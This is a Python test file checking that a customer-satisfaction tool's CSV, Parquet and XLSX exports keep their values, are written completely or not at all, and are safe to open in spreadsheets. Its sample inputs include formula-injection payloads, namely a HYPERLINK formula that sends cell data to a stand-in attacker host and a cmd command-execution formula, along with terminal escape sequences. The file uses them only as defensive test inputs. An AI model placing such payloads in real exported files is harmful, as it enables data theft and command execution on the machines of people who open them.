"""Exported files hold the same values, are safe to open in a spreadsheet, and are complete or not written."""

from __future__ import annotations

import io
import os
import re
import stat
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from csat_analysis.errors import ExportError, UnknownChoice
from csat_analysis.export import export, guard_formula, to_csv_text
from csat_analysis.export.spreadsheet import MOST_ROWS

ENDINGS = ["csv", "parquet", "xlsx"]
FORMULAS = [
    "=1+1",
    "+49 30 123",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\x07=1+1",
    "\x1f \x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "\ufffe=1+1",
    "\uffff\x80=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
]
INVALID_IN_XML = r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]"


@pytest.fixture
def frame() -> pd.DataFrame:
    """Return a table with every kind of column, and a missing value in each but the first."""
    return pd.DataFrame(
        {
            "ticket_id": pd.array([1, 2], dtype="Int64"),
            "subject": pd.array(['Zoë; "quoted", ☃\nsecond line', None], dtype="string"),
            "share": [0.25, None],
            "is_good": pd.array([True, None], dtype="boolean"),
            "tags": [["vip", "late"], None],
            "week": pd.to_datetime(["2026-11-09", None]),
            "submitted_at": pd.to_datetime(["2026-11-10T10:15:30.125Z", None], format="ISO8601"),
        }
    )


def read_back(path: Path) -> pd.DataFrame:
    readers = {".csv": pd.read_csv, ".xlsx": pd.read_excel, ".parquet": pd.read_parquet}
    return readers[path.suffix](path)


def sheet_cells(path: Path) -> list[list[tuple[object, str]]]:
    """Return an .xlsx sheet as rows of (value, openpyxl data type); "f" is a formula, "s" a text."""
    rows = openpyxl.load_workbook(path).active.iter_rows()
    return [[(cell.value, cell.data_type) for cell in row] for row in rows]


# Values


@pytest.mark.parametrize("ending", ENDINGS)
def test_reading_a_file_returns_the_same_table(frame, tmp_path, ending):
    path = export(frame, tmp_path / f"table.{ending}")
    back = read_back(path)
    assert path == tmp_path / f"table.{ending}"
    assert back.columns.tolist() == frame.columns.tolist()
    assert back["subject"][0] == frame["subject"][0]
    assert (back["ticket_id"][0], back["share"][0], bool(back["is_good"][0])) == (1, 0.25, True)
    assert back.iloc[1].isna().tolist() == [False, *[True] * 6]
    assert pd.to_datetime(back["submitted_at"], utc=True)[0] == frame["submitted_at"][0]


def test_parquet_keeps_types_and_lists(frame, tmp_path):
    back = pd.read_parquet(export(frame, tmp_path / "table.parquet"))
    assert list(back["tags"][0]) == ["vip", "late"]
    assert back["submitted_at"].tolist()[0] == frame["submitted_at"][0]
    assert back["subject"][0] == frame["subject"][0]


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_lists_are_joined_by_spaces(frame, tmp_path, ending):
    assert read_back(export(frame, tmp_path / f"t.{ending}"))["tags"][0] == "vip late"


def test_csv_has_a_byte_order_mark_and_utc_offsets(frame, tmp_path):
    content = export(frame, tmp_path / "t.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfticket_id,")
    assert b",2026-11-10 10:15:30.125+00:00" in content


def test_xlsx_has_dates_and_a_frozen_heading(frame, tmp_path):
    path = export(frame, tmp_path / "t.xlsx")
    assert sheet_cells(path)[1][-1] == (pd.Timestamp("2026-11-10T10:15:30.125").to_pydatetime(), "d")
    assert openpyxl.load_workbook(path).active.freeze_panes == "A2"


@pytest.mark.parametrize("ending", ENDINGS)
def test_an_empty_table_keeps_its_headings(frame, tmp_path, ending):
    back = read_back(export(frame[:0], tmp_path / f"t.{ending}"))
    assert back.empty
    assert back.columns.tolist() == frame.columns.tolist()


@pytest.mark.parametrize("ending", ENDINGS)
def test_export_does_not_change_the_table(frame, tmp_path, ending):
    before = frame.copy(deep=True)
    export(frame, tmp_path / f"t.{ending}")
    pd.testing.assert_frame_equal(frame, before)


@pytest.mark.parametrize("ending", ENDINGS)
@pytest.mark.parametrize("moment", ["0001-01-01", "1899-12-31", "9999-12-31T23:59:59.999999"])
def test_dates_outside_the_range_of_a_spreadsheet_can_be_exported(tmp_path, ending, moment):
    times = pd.Series([pd.Timestamp(moment, tz="UTC").as_unit("us"), pd.NaT])
    back = read_back(export(pd.DataFrame({"n": [1, 2], "at": times}), tmp_path / f"t.{ending}"))
    assert str(back["at"][0])[:10] == moment[:10]


# Safe to open in a spreadsheet


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text):
    assert guard_formula(text) == f"'{text}"


@pytest.mark.parametrize("value", ["fine", "a=b", "5 - 3", "", "'=1", 5, -5, -0.5, None, True])
def test_other_values_are_not_changed(value):
    assert guard_formula(value) is value


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("kind", ["string", "object", "category"])
def test_xlsx_keeps_formulas_as_their_true_text(tmp_path, text, kind):
    column = pd.Series(["fine", text, None], dtype=kind)
    table = pd.DataFrame({"words": column, "list": [[text, "x"], [], ["x", text]], "n": [1, 2, 3]})
    path = export(table, tmp_path / "t.xlsx")
    found = sheet_cells(path)
    assert not [cell for row in found for cell in row if cell[1] == "f"]
    assert found[2][0] == (re.sub(INVALID_IN_XML, "", text.replace("\r", "\n")), "s")
    # The quote prefix keeps the text a text when a user edits the cell.
    assert openpyxl.load_workbook(path).active["A3"].quotePrefix


@pytest.mark.parametrize("text", FORMULAS)
def test_a_heading_of_an_xlsx_sheet_is_not_a_formula(tmp_path, text):
    (((_, kind),), _) = sheet_cells(export(pd.DataFrame({text: [1]}), tmp_path / "t.xlsx"))
    assert kind == "s"


@pytest.mark.parametrize("text", ["https://example.com/x", "mailto:ana@example.com", "0123", "1e5"])
def test_xlsx_does_not_turn_text_into_links_or_numbers(tmp_path, text):
    path = export(pd.DataFrame({"words": [text]}), tmp_path / "t.xlsx")
    cell = openpyxl.load_workbook(path).active["A2"]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_field_is_not_a_formula(text):
    table = pd.DataFrame({"first": [text, "a"], text: ["b", text], "list": [[text], []]})
    written = io.StringIO(to_csv_text(table))
    rows = pd.read_csv(written, header=None, dtype=str, keep_default_na=False).to_numpy()
    assert {value for value in rows.ravel() if "1" in value and not value.startswith("'")} <= {"1"}
    assert to_csv_text(table).count("'") >= 4


@settings(deadline=None, derandomize=True, max_examples=150)
@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=12))
def test_any_text_can_be_exported_and_is_not_a_formula(tmp_path_factory, words):
    path = tmp_path_factory.getbasetemp() / "words.xlsx"
    export(pd.DataFrame({"comment": [words]}), path)
    ((_,), (cell,)) = sheet_cells(path)
    assert cell[1] != "f"
    assert to_csv_text(pd.DataFrame({"comment": [words]})).startswith("comment\n")


def test_a_carriage_return_in_a_text_does_not_start_a_csv_line():
    table = pd.DataFrame({"comment": ["thanks\r=1+1", "thanks\r\n=1+1"], "tags": [["a\r=1+1"], []]})
    assert "\r" not in to_csv_text(table)
    assert pd.read_csv(io.StringIO(to_csv_text(table)))["comment"].tolist() == ["thanks\n'=1+1"] * 2


def csv_text(words: str, path: Path) -> str:
    """Return the text as a CSV file has it, in the second column as in most tables."""
    return pd.read_csv(export(pd.DataFrame({"n": [1], "words": [words]}), path))["words"][0]


@pytest.mark.parametrize("separator", [";", "\t", "\n", "|", "; ", ";\u200b\x00", ";\n\n\t", '; "', ';""'])
@pytest.mark.parametrize("sign", list("=+-@＝＋－＠"))
def test_a_formula_after_a_separator_of_another_country_is_guarded_in_csv(tmp_path, separator, sign):
    words = f"thanks{separator}{sign}1+1"
    assert csv_text(words, tmp_path / "t.csv") == f"thanks{separator}'{sign}1+1"
    table = pd.DataFrame({"n": [1], "words": [words]})
    (_, (_, (in_xlsx, _))) = sheet_cells(export(table, tmp_path / "t.xlsx"))
    assert in_xlsx == words.replace("\x00", "")


@pytest.mark.parametrize(
    "words", ["a-b", "x; y", "x;y=1", "a | b - c", "so\n1. = one", '"-" and "+"', "5 - 3;"]
)
def test_csv_does_not_change_ordinary_text(tmp_path, words):
    assert csv_text(words, tmp_path / "t.csv") == words


def test_headings_and_lists_are_guarded_too():
    text = to_csv_text(pd.DataFrame({"a;=1": ["x"], "tags": [["a;", "=1"]]}))
    assert text == "a;'=1,tags\nx,a; '=1\n"


def test_a_text_of_blank_lines_is_exported_in_linear_time():
    table = pd.DataFrame({"comment": ["x" + "\n" * 200_000 + "y"]})
    started = time.monotonic()
    to_csv_text(table)
    assert time.monotonic() - started < 5


def test_csv_text_for_a_terminal_has_no_control_characters():
    table = pd.DataFrame({"comment": ["\x1b]0;owned\x07red \x1b[31m\x9b2J\x00\ttab\nline\x7f"], "n": [1]})
    assert to_csv_text(table) == 'comment,n\n"]0;ownedred [31m2J\ttab\nline",1\n'


def test_negative_numbers_stay_numbers(tmp_path):
    table = pd.DataFrame({"change": [-0.25], "count": pd.array([-3], dtype="Int64")})
    assert sheet_cells(export(table, tmp_path / "t.xlsx"))[1] == [(-0.25, "n"), (-3, "n")]


def test_characters_that_xlsx_does_not_allow_are_removed(tmp_path):
    table = pd.DataFrame({"comment": ["a\x00b\x0bc\x1fd\ufffee", "x" * 40_000]})
    (_, (first,), (second,)) = sheet_cells(export(table, tmp_path / "t.xlsx"))
    assert first[0] == "abcde"
    assert second[0] == "x" * 32_767


# Complete or not written


@pytest.mark.parametrize("name", ["table.txt", "table", "table.xls", "table.csv.gz"])
def test_an_unknown_ending_is_an_error_that_lists_the_valid_ones(frame, tmp_path, name):
    with pytest.raises(UnknownChoice, match=r"choose from: \.csv, \.parquet, \.xlsx"):
        export(frame, tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_the_ending_may_be_in_upper_case(frame, tmp_path):
    assert export(frame, tmp_path / "T.CSV").read_bytes().startswith(b"\xef\xbb\xbf")


def test_missing_folders_are_created(frame, tmp_path):
    assert export(frame, tmp_path / "out" / "week 46" / "t.csv").exists()


@pytest.mark.parametrize("ending", ENDINGS)
@pytest.mark.parametrize("umask", [0o000, 0o022, 0o077])
def test_only_the_owner_can_read_an_exported_file(frame, tmp_path, ending, umask):
    before = os.umask(umask)
    try:
        path = export(frame, tmp_path / f"t.{ending}")
    finally:
        os.umask(before)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_file_that_cannot_be_written_is_named_in_the_error(frame, tmp_path, ending):
    (tmp_path / "file").write_text("not a folder")
    (tmp_path / f"folder.{ending}").mkdir()
    for path in (tmp_path / "file" / f"t.{ending}", tmp_path / f"folder.{ending}"):
        with pytest.raises(ExportError, match=r"cannot write .* choose another --output"):
            export(frame, path)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", f"folder.{ending}"]


def test_too_many_rows_for_xlsx_are_an_error(tmp_path):
    too_long = pd.DataFrame(index=range(MOST_ROWS + 1))
    with pytest.raises(ExportError, match=r"1,048,576 rows do not fit .* use \.csv or \.parquet"):
        export(too_long, tmp_path / "t.xlsx")
    assert list(tmp_path.iterdir()) == []


FULL_DISK = """
import resource, sys
import pandas as pd
from csat_analysis.errors import ExportError
from csat_analysis.export import export
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000))
frame = pd.DataFrame({"n": range(50_000), "words": [str(7919 * n) for n in range(50_000)]})
try:
    export(frame, sys.argv[1])
except ExportError as error:
    print(error)
"""


@pytest.mark.parametrize("ending", ENDINGS)
def test_an_export_that_fails_keeps_the_old_file_and_leaves_no_other(tmp_path, ending):
    path = tmp_path / f"t.{ending}"
    path.write_bytes(b"old")
    run = subprocess.run(
        [sys.executable, "-c", FULL_DISK, str(path)], capture_output=True, text=True, check=True
    )
    assert run.stderr == ""
    assert re.fullmatch(rf"cannot write {path} \(File too large\): choose another --output\n", run.stdout)
    assert [path.name for path in tmp_path.iterdir()] == [f"t.{ending}"]
    assert path.read_bytes() == b"old"
